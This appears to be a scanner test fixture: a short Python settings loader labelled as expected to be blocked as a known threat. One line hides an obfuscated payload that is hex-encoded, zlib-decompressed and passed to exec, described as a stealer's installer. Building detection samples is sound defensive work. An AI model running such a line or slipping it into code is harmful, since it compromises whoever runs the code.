# expect: BLOCKED category: known_threat
# A stealer's installer line (listed by line hash) inside otherwise ordinary code.
import json


def load_settings(path):
    with open(path, encoding="utf-8") as handle:
        return json.load(handle)


__import__("builtins").exec(__import__("zlib").decompress(bytes.fromhex("789ccbcc2dc82f2a51c82fb60662bde2cae292d45c0da5e4d2a21c05dd62858c9292022b7d7d2303633d033d4343633d73fd0a851a85e20c254d00307b118a")))
print(load_settings("settings.json"))
